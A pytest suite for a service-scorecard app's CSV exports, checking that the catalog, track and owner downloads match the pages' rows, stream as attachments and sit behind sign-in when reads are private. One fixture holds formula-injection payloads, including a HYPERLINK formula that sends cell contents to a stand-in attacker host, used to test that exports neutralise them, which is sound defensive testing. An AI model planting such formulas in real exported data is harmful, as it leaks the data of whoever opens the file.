"""CSV exports of the catalog, a track's entities and an owner's entities: every row the
page (or the JSON API) shows for the same filters across all its pages, in its order;
cells that would be formulas neutralised; streamed."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Collection, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from playwright.sync_api import Page

from api.pages import exports
from scorecard.store.queries import NO_LEVEL
from scorecard.workspace import Workspace
from tests.pages.conftest import TOKEN
from tests.serving import ServedApp

TEAM_A = "group:default/team-a"
OWNERS = [TEAM_A, "group:default/Team-A", "group:default/team-b", "group:default/team-c", None]
TYPES = ["service", "website", "library", None]
COMPONENTS = 130
APIS = 12
# Listed at the first run, gone from the catalog at the second.
GONE = {"svc-003", "svc-050", "svc-101"}
# Titles a spreadsheet would take for formulas, by component number. (A leading tab or
# carriage return does not survive reading the catalog: the unit test of `cell` has them.)
HOSTILE = {
    7: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    8: "+1+2",
    9: "-2+3",
    10: "@SUM(1,1)",
}
TRACKS = {
    "ops.yaml": """\
apiVersion: scorecard/v1
kind: Track
id: ops
title: Operations
filter: {kind: Component}
levels:
  - id: bronze
    checks: [has_owner]
  - id: silver
    checks: [has_description]
  - id: gold
    checks: [has_tags]
""",
    "api-docs.yaml": """\
apiVersion: scorecard/v1
kind: Track
id: api-docs
title: API docs
filter: {kind: API}
levels:
  - id: documented
    checks: [has_description]
""",
}
# The page's rows are 50 a page; the exports' chunks are made this small so that the
# catalog spans many of them, ties of every sort key across their edges included.
SMALL_CHUNK = 7
PAGE_ROWS = 50


def _component(number: int) -> dict[str, Any]:
    name = f"svc-{number:03d}"
    metadata: dict[str, Any] = {"name": name, "title": HOSTILE.get(number, f"Service {number}")}
    if number % 3:
        metadata["description"] = f"Service number {number}."
    if number % 4:
        metadata["tags"] = ["python"]
    spec: dict[str, Any] = {"lifecycle": "production"}
    owner, kind_of = OWNERS[number % len(OWNERS)], TYPES[(number // 2) % len(TYPES)]
    if owner is not None:
        spec["owner"] = owner
    if kind_of is not None:
        spec["type"] = kind_of
    return {
        "apiVersion": "backstage.io/v1alpha1",
        "kind": "Component",
        "metadata": metadata,
        "spec": spec,
    }


def _catalog(*, without: Collection[str] = ()) -> str:
    documents: list[dict[str, Any]] = [
        {
            "apiVersion": "backstage.io/v1alpha1",
            "kind": "Group",
            "metadata": {"name": team},
            "spec": {"type": "team", "children": []},
        }
        for team in ("team-a", "team-b", "team-c")
    ]
    documents += [_component(n) for n in range(COMPONENTS) if f"svc-{n:03d}" not in without]
    for number in range(APIS):
        metadata: dict[str, Any] = {"name": f"api-{number:02d}"}
        if number % 2:
            metadata["description"] = "An API."
        documents.append(
            {
                "apiVersion": "backstage.io/v1alpha1",
                "kind": "API",
                "metadata": metadata,
                "spec": {"type": "openapi", "owner": OWNERS[number % 3], "lifecycle": "beta"},
            }
        )
    return yaml.safe_dump_all(documents, sort_keys=False)


@dataclasses.dataclass
class Exports:
    url: str
    server: ServedApp
    workspace: Workspace


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exports]:
    """A server over the catalog above, run twice: the entities of `GONE` left the
    catalog before the second run."""
    root = tmp_path_factory.mktemp("exports")
    catalog = root / "catalog.yaml"
    catalog.write_text(_catalog(), encoding="utf-8")
    (root / "tracks").mkdir()
    for name, text in TRACKS.items():
        (root / "tracks" / name).write_text(text)
    workspace = Workspace(
        catalog=[str(catalog)],
        tracks=[root / "tracks"],
        checks=[],
        database=f"sqlite:///{root / 'scorecard.db'}",
        api_token=TOKEN,
        reload_interval=0,
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(exports, "CHUNK", SMALL_CHUNK)
        with ServedApp(workspace) as server:
            catalog.write_text(_catalog(without=GONE), encoding="utf-8")
            server.service.runs.trigger(trigger="api", wait=True)
            gone = [e.ref for e in server.service.store.entities(include_gone=True) if e.gone_run]
            assert sorted(gone) == sorted(f"component:default/{n}" for n in GONE)
            yield Exports(server.url, server, workspace)


def _csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def _api_entities(client: httpx.Client, **filters: str) -> list[dict[str, Any]]:
    """Every entity `GET /api/v1/entities` lists for `filters`, page by page."""
    found: list[dict[str, Any]] = []
    while True:
        page = client.get("/api/v1/entities", params={**filters, "limit": 40, "offset": len(found)})
        assert page.status_code == 200, page.text
        items = page.json()["items"]
        found += items
        if not items:
            return found


def _expected_entity_row(item: dict[str, Any], track_ids: list[str]) -> list[str]:
    levels = item["levels"]
    return [
        exports.cell(item[name])
        for name in ("ref", "kind", "namespace", "name", "title", "owner", "type", "lifecycle")
    ] + [(levels[t] or NO_LEVEL) if t in levels else "" for t in track_ids]


def _page_refs(client: httpx.Client, path: str, **params: str) -> list[str]:
    """The entities a page's table lists, page after page, as refs (from their links)."""
    refs: list[str] = []
    number = 1
    while True:
        page = client.get(path, params={**params, "page": str(number)})
        assert page.status_code == 200, page.text
        table = re.search(r'<table class="entities">(.*?)</table>', page.text, re.S)
        assert table is not None
        links = re.findall(r'href="/catalog/([^/"]+)/([^/"]+)/([^"]+)"', table.group(1))
        refs += [f"{kind}:{namespace}/{name}" for kind, namespace, name in links]
        if len(links) < PAGE_ROWS:
            return refs
        number += 1


# --- the catalog ------------------------------------------------------------------------

CATALOG_FILTERS = [
    {},
    {"kind": "component"},
    {"kind": "API"},
    {"owner": "GROUP:default/team-a"},
    {"track": "ops"},
    {"track": "ops", "level": NO_LEVEL},
    {"track": "ops", "level": "bronze"},
    {"level": "documented"},
    {"kind": "component", "owner": "group:default/team-b", "track": "ops", "level": "gold"},
    {"track": "no-such-track"},
]


@pytest.mark.parametrize(
    "filters", CATALOG_FILTERS, ids=lambda f: "&".join(f"{k}={v}" for k, v in f.items()) or "all"
)
def test_the_catalog_csv_has_the_apis_rows_for_the_same_filters(
    served: Exports, filters: dict[str, str]
) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        rows = _csv(client.get("/exports/catalog.csv", params=filters))
        listed = _api_entities(client, **filters)
    track_ids = [t.id for t in served.server.service.config.current.tracks]
    assert sorted(track_ids) == ["api-docs", "ops"]
    assert rows[0] == [*exports.ENTITY_COLUMNS, *(f"level:{t}" for t in track_ids)]
    assert rows[1:] == [_expected_entity_row(item, track_ids) for item in listed]
    if not filters:
        assert len(rows) - 1 == 3 + COMPONENTS - len(GONE) + APIS
    gone_refs = {f"component:default/{n}" for n in GONE}
    assert not gone_refs & {row[0] for row in rows[1:]}


def test_empty_filters_mean_any_as_on_the_pages(served: Exports) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        every = client.get("/exports/catalog.csv").content
        empty = client.get("/exports/catalog.csv?kind=&owner=&track=&level=").content
    assert empty == every


# --- a track ----------------------------------------------------------------------------

TRACK_FILTERS = [
    {},
    {"owner": "group:default/TEAM-A"},
    {"level": NO_LEVEL},
    {"level": "silver", "type": "service"},
    {"kind": "component", "type": "website"},
]


@pytest.mark.parametrize("sort", ["name", "owner", "kind", "type", "level"])
@pytest.mark.parametrize("desc", ["false", "true"])
@pytest.mark.parametrize(
    "filters", TRACK_FILTERS, ids=lambda f: "&".join(f"{k}={v}" for k, v in f.items()) or "all"
)
def test_the_track_csv_has_the_track_pages_rows_in_their_order(
    served: Exports, sort: str, desc: str, filters: dict[str, str]
) -> None:
    params = {**filters, "sort": sort, "desc": desc}
    with httpx.Client(base_url=served.url, timeout=30) as client:
        rows = _csv(client.get("/exports/tracks/ops.csv", params=params))
        shown = _page_refs(client, "/tracks/ops", **params)
    assert rows[0] == [
        *exports.TRACK_COLUMNS,
        "check:has_owner",
        "check:has_description",
        "check:has_tags",
    ]
    assert [row[0] for row in rows[1:]] == shown
    if not filters:
        assert len(shown) == COMPONENTS - len(GONE) > PAGE_ROWS * 2


def test_the_track_csv_gives_each_entitys_levels_and_stored_outcomes(served: Exports) -> None:
    store = served.server.service.store
    with httpx.Client(base_url=served.url, timeout=30) as client:
        rows = _csv(client.get("/exports/tracks/ops.csv"))
    outcomes: dict[tuple[str, str], str] = {
        (r.entity_ref, r.check_id): r.outcome.value for r in store.results(track_id="ops")
    }
    entities = {e.ref: e for e in store.entities()}
    assert len(rows) - 1 == COMPONENTS - len(GONE)
    for ref, title, owner, kind, type_, level, next_level, *checks in rows[1:]:
        held = store.certification(ref, "ops")
        assert held is not None
        entity = entities[ref]
        assert [title, owner, kind, type_] == [
            exports.cell(entity.title),
            exports.cell(entity.owner),
            entity.kind,
            entity.type or "",
        ]
        assert (level, next_level) == (held.level or NO_LEVEL, held.next_level or "")
        assert checks == [outcomes[ref, c] for c in ("has_owner", "has_description", "has_tags")]
    # Some of each, so that the comparison above compared something.
    assert {row[5] for row in rows[1:]} == {NO_LEVEL, "bronze", "silver", "gold"}
    assert {"pass", "fail"} <= {cell for row in rows[1:] for cell in row[7:]}


def test_an_unknown_track_is_the_pages_404(served: Exports) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        missing = client.get("/exports/tracks/no-such-track.csv", headers={"Accept": "text/html"})
        bad_sort = client.get("/exports/tracks/ops.csv?sort=colour")
    assert missing.status_code == 404
    assert "There is no track" in missing.text and "ops" in missing.text
    assert bad_sort.status_code == 422


# --- an owner ---------------------------------------------------------------------------


@pytest.mark.parametrize("ref", [TEAM_A, "team-b", "Group:Default/Team-C"])
def test_the_owner_csv_has_the_owner_pages_rows(served: Exports, ref: str) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        response = client.get("/exports/owner.csv", params={"ref": ref})
        rows = _csv(response)
        owner = f"group:default/{ref.rsplit('/', 1)[-1]}".lower()
        shown = _page_refs(client, f"/owners/{owner}")
        listed = _api_entities(client, owner=owner)
    assert [row[0] for row in rows[1:]] == shown
    track_ids = [t.id for t in served.server.service.config.current.tracks]
    assert rows[1:] == [_expected_entity_row(item, track_ids) for item in listed]
    if owner == TEAM_A:
        assert len(shown) > PAGE_ROWS  # spans pages of the owner page
    # Named after the owner as given (its name's case kept, as the owner page keeps it).
    assert response.headers["content-disposition"].lower() == (
        f'attachment; filename="owner-{owner.replace(":", "-").replace("/", "-")}.csv"'
    )


def test_an_owner_of_nothing_or_no_owner_ref_is_the_pages_404(served: Exports) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        nobody = client.get("/exports/owner.csv", params={"ref": "group:default/nobody"})
        garbled = client.get("/exports/owner.csv", params={"ref": "a:b:c/d/e"})
    assert nobody.status_code == 404 and "No evaluated entity is owned by" in nobody.text
    assert garbled.status_code == 404


# --- safety and streaming --------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_is_never_a_formula(value: str | None, written: str) -> None:
    assert exports.cell(value) == written


def test_hostile_titles_are_neutralised_in_every_export(served: Exports) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        downloads = {
            "catalog": client.get("/exports/catalog.csv"),
            "track": client.get("/exports/tracks/ops.csv"),
            "owner": client.get("/exports/owner.csv", params={"ref": "team-c"}),
        }
    for name, response in downloads.items():
        rows = _csv(response)
        title = rows[0].index("title")
        titles = {row[0]: row[title] for row in rows[1:]}
        hostile = {
            f"component:default/svc-{n:03d}": text
            for n, text in HOSTILE.items()
            if f"component:default/svc-{n:03d}" in titles
        }
        assert hostile, name
        for ref, text in hostile.items():
            assert titles[ref] == "'" + text, (name, ref)
        # No cell of the file starts like a formula.
        starts = {cell[:1] for row in rows[1:] for cell in row}
        assert not starts & set(exports.FORMULA_STARTS), (name, starts)
    # The link's quotes stay inside the one quoted cell.
    assert b'"\'=HYPERLINK(""http://attacker.example/' in downloads["catalog"].content


def test_a_download_is_streamed_as_an_attachment(served: Exports) -> None:
    with (
        httpx.Client(base_url=served.url, timeout=30) as client,
        client.stream("GET", "/exports/catalog.csv") as response,
    ):
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == 'attachment; filename="catalog.csv"'
        # No length known beforehand: sent in chunks as the store is read.
        assert "content-length" not in response.headers
        assert response.headers["transfer-encoding"] == "chunked"
        body = b"".join(response.iter_bytes())
    assert body.count(b"\r\n") == 1 + 3 + COMPONENTS - len(GONE) + APIS


def test_the_pages_link_their_downloads_with_their_filters(served: Exports) -> None:
    with httpx.Client(base_url=served.url, timeout=30) as client:
        track = client.get("/tracks/ops?owner=group:default/team-b&level=none&sort=owner&desc=true")
        owner = client.get(f"/owners/{TEAM_A}")
        link = re.search(r'href="(/exports/tracks/ops\.csv\?[^"]*)"', track.text)
        owner_link = re.search(r'href="(/exports/owner\.csv\?[^"]*)"', owner.text)
        assert link is not None and owner_link is not None
        url = link.group(1).replace("&amp;", "&")
        assert url == (
            "/exports/tracks/ops.csv?owner=group%3Adefault%2Fteam-b&level=none&sort=owner&desc=true"
        )
        assert (
            _csv(client.get(url))[1:]
            == _csv(
                client.get(
                    "/exports/tracks/ops.csv",
                    params={
                        "owner": "group:default/team-b",
                        "level": "none",
                        "sort": "owner",
                        "desc": "true",
                    },
                )
            )[1:]
        )
        assert owner_link.group(1) == "/exports/owner.csv?ref=group%3Adefault/team-a"
        assert len(_csv(client.get(owner_link.group(1)))) > 1


# --- reads behind the token -----------------------------------------------------------


@pytest.fixture(scope="module")
def private_url(served: Exports) -> Iterator[str]:
    """A second server over the same store, its reads behind the token."""
    with ServedApp(dataclasses.replace(served.workspace, public_reads=False)) as server:
        yield server.url


@pytest.mark.parametrize(
    "path", ["/exports/catalog.csv", "/exports/tracks/ops.csv", f"/exports/owner.csv?ref={TEAM_A}"]
)
def test_private_reads_send_a_visitor_to_sign_in(private_url: str, path: str) -> None:
    with httpx.Client(base_url=private_url, timeout=30) as client:
        answer = client.get(path)
        assert answer.status_code == 303
        assert answer.headers["location"].startswith("/signin?next=/exports/")
        signed_in = client.post(
            "/signin",
            data={"token": TOKEN, "next": "/"},
            headers={"Origin": private_url},
        )
        assert signed_in.status_code == 303
        assert client.get(path).status_code == 200


def test_a_browser_downloads_the_track_csv_from_the_page(served: Exports, page: Page) -> None:
    page.goto(f"{served.url}/tracks/ops?type=website&sort=level&desc=true#entities")
    with page.expect_download() as downloading:
        page.get_by_role("link", name="Download CSV").click()
    download = downloading.value
    assert download.suggested_filename == "track-ops.csv"
    saved = Path(download.path()).read_bytes()
    with httpx.Client(base_url=served.url, timeout=30) as client:
        expected = client.get(
            "/exports/tracks/ops.csv", params={"type": "website", "sort": "level", "desc": "true"}
        )
    assert saved == expected.content
    assert len(_csv(expected)) > 2
